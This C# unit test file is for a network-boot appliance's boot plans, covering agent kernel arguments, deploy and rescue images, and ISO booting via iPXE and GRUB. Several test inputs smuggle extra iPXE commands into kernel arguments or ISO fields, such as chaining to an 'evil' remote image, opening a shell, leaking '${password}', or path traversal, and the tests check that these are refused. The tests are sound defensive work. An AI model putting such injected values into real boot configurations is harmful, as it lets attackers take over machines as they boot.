using System.Net;
using BootAppliance.Netboot;
using BootAppliance.Netboot.Plans;
using BootAppliance.Nodes;

namespace BootAppliance.Tests;

/// <summary>What a node boots while its agent is expected, and what the agent is told.</summary>
public sealed class AgentPlanTests
{
    private const string Api = "ipa-api-url=http://192.0.2.1";
    private const string Inspection = "ipa-inspection-callback-url=http://192.0.2.1/v1/continue_inspection";

    private static readonly BootPolicy policy = new() { Address = IPAddress.Parse("192.0.2.1"), KernelAppendParams = "console=ttyS0" };

    [Theory]
    [InlineData(ProvisionState.DeployWait, Api)]
    [InlineData(ProvisionState.CleanWait, Api)]
    [InlineData(ProvisionState.RescueWait, Api)]
    [InlineData(ProvisionState.ServiceWait, Api)]
    [InlineData(ProvisionState.InspectWait, Inspection)]
    public void Agent_IsToldWhereToReport_InEachWaitingState(ProvisionState state, string told) =>
        Plan(state).ShouldBeOfType<BootPlan.Ramdisk>().Arguments.ShouldBe("console=ttyS0 " + told);

    [Fact]
    public void Agent_IsToldThePort_WhenItIsNotTheUsualOne() =>
        Plan(ProvisionState.CleanWait, policy: policy with { HttpPort = 8080 }).ShouldBeOfType<BootPlan.Ramdisk>().Arguments.ShouldEndWith(" ipa-api-url=http://192.0.2.1:8080");

    [Theory]
    [InlineData("ipa-api-url=http://198.18.0.5 quiet", "ipa-api-url=http://198.18.0.5 quiet")]
    [InlineData("x=ipa-api-url=1 %default%", "x=ipa-api-url=1 console=ttyS0 " + Api)]
    [InlineData("", Api)]
    public void Agent_ReportsElsewhere_WhenTheOperatorSaysSo(string own, string arguments) =>
        Plan(ProvisionState.CleanWait, $$"""{"deploy_kernel": "k", "deploy_ramdisk": "r", "kernel_append_params": "{{own}}"}""").ShouldBeOfType<BootPlan.Ramdisk>().Arguments.ShouldBe(arguments);

    [Fact]
    public void Agent_ComesFromTheSettings_WhenTheNodeNamesNone()
    {
        var settings = policy with { AgentImages = new AgentImages("agent/kernel", "agent/ramdisk") };
        Images(Plan(ProvisionState.CleanWait, "{}", settings)).ShouldBe(["agent/kernel", "agent/ramdisk"]);
        Images(Plan(ProvisionState.RescueWait, "{}", settings)).ShouldBe(["agent/kernel", "agent/ramdisk"]);
        Images(Plan(ProvisionState.CleanWait, """{"deploy_kernel": " ", "deploy_ramdisk": ""}""", settings)).ShouldBe(["agent/kernel", "agent/ramdisk"]);
        Images(Plan(ProvisionState.CleanWait, """{"deploy_kernel": "k", "deploy_ramdisk": "r"}""", settings)).ShouldBe(["k", "r"]);
        var nothing = Plan(ProvisionState.CleanWait, "{}").ShouldBeOfType<BootPlan.Nothing>();
        nothing.Missing.ShouldBe(["deploy_kernel", "deploy_ramdisk"]);
        nothing.Problem.ShouldBe(
            "driver_info/deploy_kernel and driver_info/deploy_ramdisk are not set, and neither are Boot:DeployKernel and Boot:DeployRamdisk both: the agent cannot be booted");
    }

    [Theory]
    [InlineData("""{"deploy_kernel": "k"}""", "deploy_ramdisk")]
    [InlineData("""{"deploy_kernel": "k", "deploy_ramdisk": ""}""", "deploy_ramdisk")]
    [InlineData("""{"deploy_ramdisk": "r"}""", "deploy_kernel")]
    public void Agent_IsNotBooted_WhenANodeNamesHalfOfIt(string driver, string missing)
    {
        var settings = policy with { AgentImages = new AgentImages("agent/kernel", "agent/ramdisk") };
        var nothing = Plan(ProvisionState.CleanWait, driver, settings).ShouldBeOfType<BootPlan.Nothing>();
        nothing.Missing.ShouldBe([missing]);
        nothing.Problem.ShouldStartWith($"driver_info/{missing} is not set");
    }

    [Fact]
    public void Rescue_HasImagesOfItsOwn_WhenThereAreSome()
    {
        var settings = policy with { AgentImages = new AgentImages("agent/kernel", "agent/ramdisk", "rescue/kernel", "rescue/ramdisk") };
        Images(Plan(ProvisionState.RescueWait, "{}", settings)).ShouldBe(["rescue/kernel", "rescue/ramdisk"]);
        Images(Plan(ProvisionState.RescueWait, """{"rescue_kernel": "r", "rescue_ramdisk": "i", "deploy_kernel": "d"}""", settings))
            .ShouldBe(["r", "i"]);
        Images(Plan(ProvisionState.RescueWait, """{"deploy_kernel": "d", "deploy_ramdisk": "i"}""")).ShouldBe(["d", "i"]);
        Images(Plan(ProvisionState.CleanWait, """{"rescue_kernel": "r", "deploy_kernel": "d", "deploy_ramdisk": "i"}""", settings)).ShouldBe(["d", "i"]);
    }

    [Theory]
    [InlineData("quiet\\nkernel http://198.18.0.9/evil")]
    [InlineData("quiet || chain http://198.18.0.9/evil")]
    [InlineData("quiet ${password}")]
    [InlineData("quiet #")]
    public void Agent_IsNotBooted_WhenTheArgumentsAddressIpxe(string own) =>
        Plan(ProvisionState.CleanWait, $$"""{"deploy_kernel": "k", "deploy_ramdisk": "r", "kernel_append_params": "{{own}}"}""").ShouldBeOfType<BootPlan.Nothing>().Problem.ShouldStartWith("driver_info/kernel_append_params: ");

    [Theory]
    [InlineData("""{"kernel": "k", "ramdisk_kernel_arguments": "init=/x"}""", "console=ttyS0 init=/x")]
    [InlineData("""{"kernel": "k", "kernel_append_params": "quiet", "ramdisk_kernel_arguments": "init=/x"}""", "quiet init=/x")]
    [InlineData("""{"kernel": "k"}""", "console=ttyS0")]
    public void Instance_HasTheArgumentsOfItsRamdisk(string instance, string arguments) => Instance(instance).ShouldBeOfType<BootPlan.Ramdisk>().Arguments.ShouldBe(arguments);

    [Fact]
    public void Instance_IsNotBooted_WhenTheArgumentsOfItsRamdiskAddressIpxe() =>
        Instance("""{"kernel": "k", "ramdisk_kernel_arguments": "a ; shell"}""").ShouldBeOfType<BootPlan.Nothing>().Problem.ShouldStartWith("instance_info/ramdisk_kernel_arguments: ';'");

    [Fact]
    public void Instance_HasTheArgumentsOfItsNode_WhenItHasNone()
    {
        var node = World.Demo(ProvisionState.Active, """{"kernel": "k"}""") with { DriverInfo = JsonFields.Parse("""{"kernel_append_params": "net.ifnames=0"}""") };
        new World(policy, node).Resolver.Plan(node).ShouldBeOfType<BootPlan.Ramdisk>().Arguments.ShouldBe("net.ifnames=0");
    }

    [Theory]
    [InlineData("""{"boot_iso": "live.iso"}""", "http://192.0.2.1/images/live.iso")]
    [InlineData("""{"boot_iso": "http://198.18.0.1/a b.iso", "kernel": "k"}""", "http://198.18.0.1/a%20b.iso")]
    public void Instance_BootsItsIso_AlsoWithoutAKernel(string instance, string url)
    {
        var world = new World(policy, World.Demo(ProvisionState.Active, instance));
        var answer = world.Resolver.BootConfig(World.Parse(World.Mac), "boot.ipxe");
        answer.Text!.ShouldContain($"\nsanboot --no-describe {url} || goto failed\n");
        answer.Why.ShouldBe("node demo in state 'active' boots its instance ISO from the network");
    }

    [Fact]
    public void Iso_IsTriedTenTimesAndThenLeft() =>
        ScriptTests.Golden("iso.ipxe", new World(policy, World.Demo(ProvisionState.Active, """{"boot_iso": "live.iso"}""")).Resolver.BootConfig(World.Parse(World.Mac), "boot.ipxe").Text!);

    [Fact]
    public void Iso_IsRefusedByGrub_WithTheReason()
    {
        var node = World.Demo(ProvisionState.Active, """{"boot_iso": "live.iso"}""");
        var world = new World(policy, node);
        var answer = world.Resolver.BootConfig(World.Parse(World.Mac), "grub.cfg");
        answer.Text.ShouldBeNull();
        answer.Why.ShouldContain("GRUB cannot boot a disc image from a URL");
        world.Resolver.GrubConfig(World.Parse(World.Mac)).Text!.ShouldNotContain("linux");
    }

    [Theory]
    [InlineData("""{"boot_iso": "http://198.18.0.1/x.iso\n|| shell"}""")]
    [InlineData("""{"boot_iso": "../x.iso"}""")]
    [InlineData("""{"boot_iso": "ftp://198.18.0.1/live.iso"}""")]
    public void Iso_IsNotBooted_WhenItIsNoImage(string instance) => Instance(instance).ShouldBeOfType<BootPlan.Nothing>().Problem.ShouldStartWith("instance_info/boot_iso: ");

    [Fact]
    public void AgentScript_Whole() =>
        ScriptTests.Golden("agent.ipxe", new World(policy, World.Demo(ProvisionState.CleanWait)).Resolver.BootConfig(World.Parse(World.Mac), "boot.ipxe").Text!);

    [Fact]
    public void AgentScript_Whole_InGrub() =>
        ScriptTests.Golden("agent.grub.cfg", new World(policy, World.Demo(ProvisionState.InspectWait)).Resolver.BootConfig(World.Parse(World.Mac), "grub.cfg").Text!);

    private static BootPlan Plan(ProvisionState state, string driver = """{"deploy_kernel": "k", "deploy_ramdisk": "r"}""", BootPolicy? policy = null)
    {
        var node = World.Demo(state) with { DriverInfo = JsonFields.Parse(driver) };
        return new World(policy ?? AgentPlanTests.policy, node).Resolver.Plan(node);
    }

    private static BootPlan Instance(string instance)
    {
        var node = World.Demo(ProvisionState.Active, instance);
        return new World(policy, node).Resolver.Plan(node);
    }

    private static IEnumerable<string> Images(BootPlan plan) => plan.ShouldBeOfType<BootPlan.Ramdisk>().Images.Select(image => image.ToString());
}
